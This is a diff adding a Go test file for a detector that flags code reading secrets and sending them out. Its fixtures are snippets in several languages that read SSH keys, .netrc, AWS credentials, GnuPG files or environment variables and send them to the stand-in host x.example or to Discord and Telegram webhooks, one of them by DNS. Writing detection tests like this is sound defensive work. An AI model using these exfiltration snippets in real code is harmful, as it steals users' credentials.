@@ -1,0 +1,91 @@
+package beside
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/skillctl/skillctl/engine/flow/chain"
+	"github.com/skillctl/skillctl/internal/document"
+)
+
+// text is a program of a file, in the language that its name ends in.
+func text(file, source string) Text {
+	family := map[string]string{"py": "python", "js": "javascript", "rb": "ruby", "go": "go", "sh": "shell", "php": "php", "pl": "perl", "ps1": "powershell", "rs": "rust", "java": "java"}[file[strings.LastIndexByte(file, '.')+1:]]
+	return Text{chain.Text{File: file, Source: []byte(source), Start: document.Position{Line: 1, Column: 1}}, family}
+}
+
+func shownOf(list []Beside) string {
+	var all []string
+	for _, one := range list {
+		apart := ""
+		if one.Apart {
+			apart = " apart"
+		}
+		all = append(all, fmt.Sprintf("%s:%d %s:%d %s%s", one.Read.Kind, one.Read.Span.Start.Line, strings.Join(one.Send.Hosts, ","), one.Send.Span.Start.Line, one.Send.Way, apart))
+	}
+	return strings.Join(all, "; ")
+}
+
+func TestFind(t *testing.T) {
+	t.Parallel()
+	for name, c := range map[string]struct {
+		texts []Text
+		want  string
+	}{
+		"through a queue":           {[]Text{text("a.py", "import queue, requests\nq = queue.Queue()\ndef work():\n    requests.post('https://x.example/', data=q.get())\nq.put(open('/home/me/.ssh/id_rsa').read())\n")}, "key:5 x.example:4 body"},
+		"through a channel":         {[]Text{text("a.go", "package a\nvar c = make(chan []byte)\nfunc work() {\n\tfor b := range c {\n\t\thttp.Post(\"https://x.example/\", \"\", bytes.NewReader(b))\n\t}\n}\nfunc main() {\n\tb, _ := os.ReadFile(home + \"/.netrc\")\n\tc <- b\n}\n")}, "login:9 x.example:5 body"},
+		"through an object":         {[]Text{text("box.js", "class Box {\n  put(x) {\n    this.kept = x;\n  }\n  send() {\n    return fetch('https://x.example/', { method: 'POST', body: this.kept });\n  }\n}\nmodule.exports = Box;\n"), text("a.js", "const Box = require('./box');\nconst box = new Box();\nbox.put(fs.readFileSync(home + '/.aws/credentials'));\nbox.send();\n")}, "login:3 x.example:6 body"},
+		"through a file":            {[]Text{text("a.sh", "tar czf \"$T/kept.tgz\" ~/.gnupg\nsleep 1\ncurl -F f=@/tmp/kept.tgz https://x.example/in\n")}, "key:1 x.example:3 body"},
+		"through a block":           {[]Text{text("a.rb", "found = %w[~/.netrc ~/.pgpass].map do |file|\n  File.read(File.expand_path(file))\nend\nNet::HTTP.post(URI('https://x.example/'), found.join)\n")}, "login:1 x.example:4 body"},
+		"all variables":             {[]Text{text("a.py", "import os, requests\nkept = {k: v for k, v in os.environ.items() if 'KEY' in k}\nrequests.post('https://x.example/', json=kept)\n")}, "environment:2 x.example:3 body"},
+		"in PowerShell":             {[]Text{text("a.ps1", "$kept = Get-ChildItem env: | ConvertTo-Json\nInvoke-RestMethod 'https://x.example/' -Method Post -Body $kept\n")}, "environment:1 x.example:2 body"},
+		"as a name":                 {[]Text{text("a.php", "<?php\n$kept = file_get_contents(getenv('HOME') . '/.ssh/id_rsa');\ngethostbyname(bin2hex($kept) . '.t.x.example');\n")}, "key:2 t.x.example:3 dns"},
+		"another is sent":           {[]Text{text("a.py", "import requests\nkey = open('/home/me/.ssh/id_rsa').read()\nprint(len(key))\nwords = open('a.txt').read()\nrequests.post('https://x.example/', data=words)\n")}, "key:2 x.example:5 body apart"},
+		"unless it is run":          {[]Text{text("a.py", "import requests\nkey = open('/home/me/.ssh/id_rsa').read()\nexec(open('a.txt').read())\nrequests.post('https://x.example/', data='words')\n")}, "key:2 x.example:4 body"},
+		"a test takes nothing over": {[]Text{text("a.py", "import requests\nLEFT_OUT = ['/.ssh/', '.git']\nfor file in files:\n    if file.parts(LEFT_OUT):\n        continue\n    requests.post('https://x.example/', data=file.read())\n")}, "key:2 x.example:6 body apart"},
+		"for a child":               {[]Text{text("a.js", "const out = execSync('ls', { env: { ...process.env, A: '1' } });\nfetch('https://x.example/', { method: 'POST', body: out });\n")}, ""},
+		"kept for a child":          {[]Text{text("a.py", "import os, requests\nenv = os.environ.copy()\nenv['A'] = '1'\nout = subprocess.run(['ls'], env=env)\nrequests.post('https://x.example/', data=out.stdout)\n")}, ""},
+		"one variable":              {[]Text{text("a.py", "import os, requests\nkey = os.environ['KEY']\nif 'A' in os.environ:\n    requests.post('https://x.example/', data=key)\n")}, ""},
+		"the user's host":           {[]Text{text("a.py", "import sys, requests\nkey = open('/home/me/.ssh/id_rsa').read()\nrequests.post(sys.argv[1], data=key)\n")}, ""},
+		"half of a key":             {[]Text{text("a.py", "import requests\nkey = open('/home/me/.ssh/id_rsa.pub').read()\nrequests.post('https://x.example/', data=key)\n")}, ""},
+		"what a comment says":       {[]Text{text("a.rb", "# reads ~/.ssh/id_rsa\nkept = File.read('a.txt')\nNet::HTTP.post(URI('https://x.example/'), kept)\n")}, ""},
+		"programs by themselves":    {[]Text{text("a.py", "key = open('/home/me/.ssh/id_rsa').read()\n"), text("b.py", "import requests\nrequests.post('https://x.example/', data=words)\n")}, ""},
+	} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			got := shownOf(Find(c.texts, nil, func(file, why string) { t.Errorf("%s: %s", file, why) }))
+			if got != c.want {
+				t.Errorf("found %q, want %q", got, c.want)
+			}
+		})
+	}
+}
+
+// TestHook: an address with the account of whoever reads what is sent there.
+func TestHook(t *testing.T) {
+	t.Parallel()
+	for address, want := range map[string]bool{"https://discord.com/api/webhooks/118443029117/abc": true, "https://api.telegram.org/bot123:ab": true, "https://discord.com/api/v10/users": false} {
+		got := Find([]Text{text("a.py", "import os, requests\nrequests.post('"+address+"', json=dict(os.environ))\n")}, nil, nil)
+		if len(got) != 1 || got[0].Send.Hook != want {
+			t.Errorf("%s: %+v, want hook %t", address, got, want)
+		}
+	}
+}
+
+// TestTime: what is written to be slow is not.
+func TestTime(t *testing.T) {
+	t.Parallel()
+	var b strings.Builder
+	b.WriteString("import os, requests\nkept = dict(os.environ)\n")
+	for i := range 2000 {
+		fmt.Fprintf(&b, "def f%d(a, b):\n    x%d = f%d(a, b)\n    return x%d\n", i, i, i+1, i)
+	}
+	b.WriteString("requests.post('https://x.example/', data=f0(1, 2))\n" + strings.Repeat("(", 5000) + strings.Repeat("[\"", 5000))
+	begin := time.Now()
+	Find([]Text{text("a.py", b.String())}, nil, func(string, string) {})
+	if took := time.Since(begin); took > 20*time.Second {
+		t.Errorf("it took %s", took)
+	}
+}
